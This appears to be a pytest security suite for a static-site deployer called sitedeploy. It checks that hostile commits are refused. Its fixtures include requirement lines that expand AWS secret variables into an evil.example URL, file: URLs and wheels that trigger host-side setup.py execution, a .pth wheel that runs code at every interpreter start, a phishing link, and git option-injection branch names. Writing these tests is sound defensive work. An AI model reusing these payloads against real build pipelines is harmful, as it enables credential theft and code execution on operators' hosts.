"""The independent review (issue 21), continued: attacks on what the deployer itself reads
and runs outside the sandbox — the host half of the pip step (network, the operator's
settings and secrets), a committed deploy.toml, a Zensical config, a site's mount."""

from __future__ import annotations

import io
import socket
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from sitedeploy import commands
from sitedeploy import config as config_mod
from sitedeploy.errors import BuildError, ConfigError, SitedeployError
from sitedeploy.versions import previews
from tests.fixtures.canaries import CLI_CANARIES, CanaryFolder
from tests.fixtures.git import ContentRepo, write_config

DOCS = '[[sites]]\nname = "docs"\npath = "sites/docs"\n'
# A project folder committed in the site: pip prepares its metadata by running setup.py.
SETUP_PY = (
    "open({absent!r}, 'w').write('setup.py ran on the host')\n"
    "from setuptools import setup\nsetup(name='evil', version='1.0')\n"
)


def _config(tmp_path: Path, repo: ContentRepo) -> config_mod.Config:
    ops = tmp_path / "ops"
    ops.mkdir(exist_ok=True)
    return config_mod.load(write_config(ops, repo.path, sites=DOCS))


@pytest.mark.parametrize(
    "line",
    [
        "canary-${AWS_SECRET_ACCESS_KEY}==1.0",
        "evil @ https://evil.example/${AWS_ACCESS_KEY_ID}/evil-1.0-py3-none-any.whl",
        "mkdocs==1.6.1 \\\n  --hash=sha256:${AWS_SECRET_ACCESS_KEY}",
    ],
)
def test_requirements_cannot_expand_the_deployers_environment(
    line: str, tmp_path: Path, content_repo: ContentRepo
) -> None:
    """pip expands ``${VAR}`` in a requirements file; the host download runs with the
    operator's environment (its keys), so a line naming one would send it to any https host
    or print it in the error that reaches the chat and the pull request's status."""
    content_repo.write("sites/docs/requirements.txt", f"mkdocs==1.6.1\n{line}\n")
    content_repo.commit("a requirement line naming the deployer's variables")
    with pytest.raises(BuildError) as caught:
        commands.build(_config(tmp_path, content_repo))
    said = f"{caught.value} {getattr(caught.value, 'log_tail', '')}"
    assert not [name for name, value in CLI_CANARIES.items() if value in said]
    assert "requirements.txt line 2" in str(caught.value)


@pytest.mark.parametrize(
    "line",
    [
        # The site's own checkout, reached from the download folder (<state>/venvs/docs/.download-x)
        # with the slashes percent-encoded: no '/', no '://', no leading '.' for the checks to see.
        "file:..%2F..%2F..%2Fworkspaces%2Fdocs%2Fproj#egg=evil",
        "file:..%2F..%2F..%2Fworkspaces%2Fdocs%2Fproj",
        "evil@file:..%2F..%2F..%2Fworkspaces%2Fdocs%2Fproj",
        # A URL whose last '@' part is an https wheel: pip reads the folder before the '#'.
        "file:{state}/workspaces/docs/proj#@https://wheels.example/evil-1.0-py3-none-any.whl",
        "evil @ file:{state}/workspaces/docs/proj?@https://wheels.example/evil-1.0-py3-none-any.whl",
    ],
)
def test_a_percent_encoded_file_url_runs_no_setup_py_on_the_host(
    line: str, tmp_path: Path, content_repo: ContentRepo, canary_folder: CanaryFolder
) -> None:
    """Goal 1 at its worst: ``pip download --only-binary :all:`` still prepares a local
    folder's metadata, running its ``setup.py`` in the deployer's process tree, with network
    and every secret of its environment. Such a line is refused before pip runs."""
    content_repo.write("sites/docs/proj/setup.py", SETUP_PY.format(absent=str(canary_folder.absent)))
    cfg = _config(tmp_path, content_repo)
    line = line.replace("{state}", "//" + str(cfg.state_dir))  # file:///<state>/...
    content_repo.write("sites/docs/requirements.txt", f"mkdocs==1.6.1\n{line}\n")
    content_repo.commit("a requirement that is a folder of the site, spelled as a file: URL")
    with pytest.raises(BuildError) as caught:
        commands.build(cfg)
    assert not canary_folder.absent.exists(), "setup.py ran on the host"
    assert "requirements.txt line 2" in str(caught.value) and "\n" not in str(caught.value)


@pytest.fixture
def listener() -> Iterator[tuple[int, list[str]]]:
    """A TCP service on the deployer's loopback, recording who connected."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    seen: list[str] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            seen.append("connection")
            conn.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield server.getsockname()[1], seen
    stop.set()
    thread.join()
    server.close()


@pytest.mark.parametrize("option", ["--index-url", "--extra-index-url", "--find-links", "-i", "-f"])
def test_an_option_after_a_requirement_chooses_no_index(
    option: str, tmp_path: Path, content_repo: ContentRepo, listener: tuple[int, list[str]]
) -> None:
    """Goal 4 from the host download: option lines are refused, but pip also reads options
    after a requirement on its line (``\\`` joins lines). pip applies only ``--hash`` and a
    few build options there, and sitedeploy refuses the line's URL: the commit's index is
    never asked."""
    port, seen = listener
    content_repo.write(
        "sites/docs/requirements.txt", f"mkdocs==1.6.1 \\\n    {option} http://127.0.0.1:{port}/simple/\n"
    )
    content_repo.commit("an index named after a requirement")
    try:
        commands.build(_config(tmp_path, content_repo))
    except BuildError as exc:
        assert "requirements.txt line 1" in str(exc) and "\n" not in str(exc)
    assert seen == []


def test_a_folder_named_like_a_wheel_is_not_built_on_the_host(
    tmp_path: Path, content_repo: ContentRepo, canary_folder: CanaryFolder
) -> None:
    """A path ending in ``.whl`` goes to the host download; a *folder* of that name with a
    ``setup.py`` would be a project pip prepares by running it. pip refuses (not a wheel
    file), and nothing runs."""
    folder = "sites/docs/evil-1.0-py3-none-any.whl"
    content_repo.write(f"{folder}/setup.py", SETUP_PY.format(absent=str(canary_folder.absent)))
    content_repo.write("sites/docs/requirements.txt", "mkdocs==1.6.1\n./evil-1.0-py3-none-any.whl\n")
    content_repo.commit("a folder named like a wheel")
    with pytest.raises(BuildError) as caught:
        commands.build(_config(tmp_path, content_repo))
    assert not canary_folder.absent.exists(), "setup.py ran on the host"
    assert "\n" not in str(caught.value)


def test_a_huge_committed_deploy_toml_is_refused_before_it_is_read(
    tmp_path: Path, content_repo: ContentRepo
) -> None:
    """Goal 7: git stores a file compressed, so 4 GB of spaces in deploy.toml is a few MB to
    push (a fork's pull request is read too), and the deployer read the blob whole into
    memory to parse it. Here 8 MB stands for it: refused with one line, by its size."""
    content_repo.write("deploy.toml", DOCS + "#" + " " * (8 * 1024 * 1024) + "\n")
    content_repo.commit("a deploy.toml of 8 MB")
    with pytest.raises(ConfigError) as caught:
        commands.build(_config(tmp_path, content_repo))
    assert "deploy.toml" in str(caught.value) and "bytes" in str(caught.value)
    assert len(str(caught.value)) < 300


def test_a_broken_zensical_config_is_one_line_for_the_chat(tmp_path: Path, content_repo: ContentRepo) -> None:
    """Goal 6: the deployer parses a Zensical site's mkdocs.yml itself; PyYAML's error spans
    lines and quotes the file, so the commit chose lines of a message that goes to the chat
    (where a line of its own can be a Markdown link definition). One line, always."""
    content_repo.write(
        "sites/docs/mkdocs.yml",
        'site_name: "[Re-authorize the deploy bot][1]\n\n[1]: https://evil.example/login\n',
    )
    content_repo.commit("a mkdocs.yml PyYAML cannot read")
    sites = DOCS + 'builder = "zensical"\n'
    ops = tmp_path / "ops"
    ops.mkdir()
    with pytest.raises(BuildError) as caught:
        commands.build(config_mod.load(write_config(ops, content_repo.path, sites=sites)))
    assert "\n" not in str(caught.value) and "mkdocs.yml" in str(caught.value)


def test_a_site_mounted_on_the_targets_state_folder_is_refused(
    tmp_path: Path, content_repo: ContentRepo
) -> None:
    """Goal 2/5 through ``mount``: a committed site mounted at ``/.sitedeploy/`` would write
    where the target keeps its own state (history, control, manifests)."""
    content_repo.write(
        "deploy.toml", '[[sites]]\nname = "landing"\npath = "sites/landing"\nmount = "/.sitedeploy/"\n'
    )
    content_repo.commit("a site mounted on the state folder")
    with pytest.raises(SitedeployError) as caught:
        commands.deploy(_config(tmp_path, content_repo))
    assert ".sitedeploy" in str(caught.value) and "\n" not in str(caught.value)
    assert not (tmp_path / "ops" / "public" / ".sitedeploy" / "index.html").exists()


def _carrier_wheel(requires: str) -> bytes:
    """A wheel that installs nothing and depends on ``requires``."""
    buffer = io.BytesIO()
    dist = "carrier-1.0.dist-info"
    with zipfile.ZipFile(buffer, "w") as whl:
        whl.writestr("carrier.py", "")
        whl.writestr(
            f"{dist}/METADATA",
            f"Metadata-Version: 2.1\nName: carrier\nVersion: 1.0\nRequires-Dist: {requires}\n",
        )
        whl.writestr(
            f"{dist}/WHEEL", "Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        whl.writestr(f"{dist}/RECORD", "")
    return buffer.getvalue()


@pytest.mark.parametrize("fold", ["", "\n"])
def test_a_wheels_own_dependency_on_a_folder_runs_no_setup_py_on_the_host(
    fold: str, tmp_path: Path, content_repo: ContentRepo, canary_folder: CanaryFolder
) -> None:
    """Goal 1 through what the host resolves, not what it reads: a committed wheel (or an
    https:// one) whose metadata requires ``evil @ file:///<the site's checkout>/proj``. pip
    resolves the dependency on the host and prepares the folder by running its ``setup.py``.
    Refused, naming the wheel and its dependency, before anything is resolved; also when
    the header is folded over two lines (pip reads METADATA as an e-mail header block)."""
    cfg = _config(tmp_path, content_repo)
    proj = cfg.state_dir / "workspaces" / "docs" / "proj"
    content_repo.write("sites/docs/proj/setup.py", SETUP_PY.format(absent=str(canary_folder.absent)))
    content_repo.write(
        "sites/docs/carrier-1.0-py3-none-any.whl", _carrier_wheel(f"evil{fold} @ file://{proj}")
    )
    content_repo.write("sites/docs/requirements.txt", "mkdocs==1.6.1\n./carrier-1.0-py3-none-any.whl\n")
    content_repo.commit("a wheel that depends on a folder of the site")
    with pytest.raises(BuildError) as caught:
        commands.build(cfg)
    assert not canary_folder.absent.exists(), "setup.py ran on the host"
    assert "carrier" in str(caught.value) and "\n" not in str(caught.value)


def _pth_wheel(code: str) -> bytes:
    """``plugin-1.0-py3-none-any.whl`` whose .pth file runs ``code`` at every interpreter start."""
    buffer = io.BytesIO()
    dist = "plugin-1.0.dist-info"
    with zipfile.ZipFile(buffer, "w") as whl:
        whl.writestr("plugin.pth", f"import os; exec({code!r}, {{}})\n")
        whl.writestr(f"{dist}/METADATA", "Metadata-Version: 2.1\nName: plugin\nVersion: 1.0\n")
        whl.writestr(
            f"{dist}/WHEEL", "Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        whl.writestr(f"{dist}/RECORD", "")
    return buffer.getvalue()


EVIL_PTH = """
import atexit, os, sys
def _plant():
    if "--site-dir" in sys.argv:
        with open(os.path.join(sys.argv[sys.argv.index("--site-dir") + 1], "evil.html"), "w") as f:
            f.write("<p>planted by a reverted wheel</p>")
atexit.register(_plant)
"""


@pytest.mark.slow
def test_a_committed_wheel_replaced_under_the_same_name_is_installed_again(
    tmp_path: Path, content_repo: ContentRepo
) -> None:
    """Goal 3 within a level: the venv is keyed by requirements.txt's text, so a commit that
    replaces a committed wheel's bytes under the same name (a revert of a hostile plugin, or
    another pull request's different wheel) was built with the old venv, and the old .pth
    kept running. The wheel's bytes are part of the key."""
    content_repo.write("sites/docs/requirements.txt", "mkdocs==1.6.1\n./plugin-1.0-py3-none-any.whl\n")
    content_repo.write("sites/docs/plugin-1.0-py3-none-any.whl", _pth_wheel(EVIL_PTH))
    content_repo.commit("a plugin that plants a page")
    cfg = _config(tmp_path, content_repo)
    commands.deploy(cfg)
    live = tmp_path / "ops" / "public" / "current"
    assert (live / "evil.html").exists()  # the hostile plugin ran
    content_repo.write("sites/docs/plugin-1.0-py3-none-any.whl", _pth_wheel("pass"))
    content_repo.commit("revert the plugin to a harmless one, same file name")
    commands.deploy(cfg)
    assert not (live / "evil.html").exists(), "the reverted plugin still runs"


@pytest.mark.parametrize(
    "committed",
    [
        "[limits]\nmax_pixels = 1000000000000\n\n[images]\nmax_pixels = 1000000000000\n",
        '[build]\nsandbox = "off"\n',
    ],
)
def test_a_commit_cannot_set_machine_settings_for_itself(
    committed: str, tmp_path: Path, content_repo: ContentRepo, canary_folder: CanaryFolder
) -> None:
    """Goal 6: a committed deploy.toml naming the operator's tables (the ceilings, the
    sandbox). Build settings come from the commit, machine settings never:
    the ceiling holds, and a hook that writes a canary still runs in the sandbox."""
    hook = f"def on_post_build(config, **kw):\n    open({str(canary_folder.absent)!r}, 'w').write('x')\n"
    content_repo.write("sites/docs/hooks.py", hook)
    yml = (content_repo.path / "sites/docs/mkdocs.yml").read_text()
    content_repo.write("sites/docs/mkdocs.yml", yml + "hooks:\n  - hooks.py\n")
    content_repo.write("deploy.toml", DOCS + "\n" + committed)
    content_repo.commit("machine settings in the commit")
    try:
        commands.build(_config(tmp_path, content_repo))
    except SitedeployError as exc:
        assert "\n" not in str(exc)
    assert not canary_folder.absent.exists()


@pytest.mark.slow
def test_branches_named_like_git_options_are_previewed_as_names(
    tmp_path: Path, content_repo: ContentRepo
) -> None:
    """Goal 5 through refs: a self-hosted server takes ``refs/heads/--output=<path>``; a
    deployer that passed the branch's name to git would have git write there. Each is
    previewed under a slug of its own, and nothing is written outside."""
    planted = tmp_path / "written-by-git"
    for name in (f"--output={planted}", "-x", "--exec=touch"):
        content_repo.git("update-ref", f"refs/heads/{name}", "HEAD")
    ops = tmp_path / "ops"
    ops.mkdir()
    cfg = config_mod.load(write_config(ops, content_repo.path, sites=DOCS, extra='previews = "branch:*"\n'))
    results = previews.deploy_previews(cfg)
    names = sorted(r.name for r in results if r.outcome == "deployed")
    assert len(names) == 4 and all(n.startswith("br-") and "/" not in n for n in names), results
    assert not planted.exists()


@pytest.mark.parametrize("name", ["requirements.txt", "zensical.toml"])
def test_a_huge_file_the_deployer_reads_itself_is_refused_by_its_size(
    name: str, tmp_path: Path, content_repo: ContentRepo
) -> None:
    """Goal 7, the same class as a huge deploy.toml: files of the checkout the deployer reads
    whole on the host (requirements.txt to key the venv, Zensical's config for site_dir)."""
    padding = "#" + " " * (8 * 1024 * 1024) + "\n"
    if name == "zensical.toml":
        content_repo.write("sites/docs/zensical.toml", '[project]\nsite_name = "Z"\n' + padding)
    else:
        content_repo.write("sites/docs/requirements.txt", "mkdocs==1.6.1\n" + padding)
    content_repo.commit(f"a {name} of 8 MB")
    with pytest.raises(BuildError) as caught:
        commands.build(_config(tmp_path, content_repo))
    assert name in str(caught.value) and "1 MB" in str(caught.value)
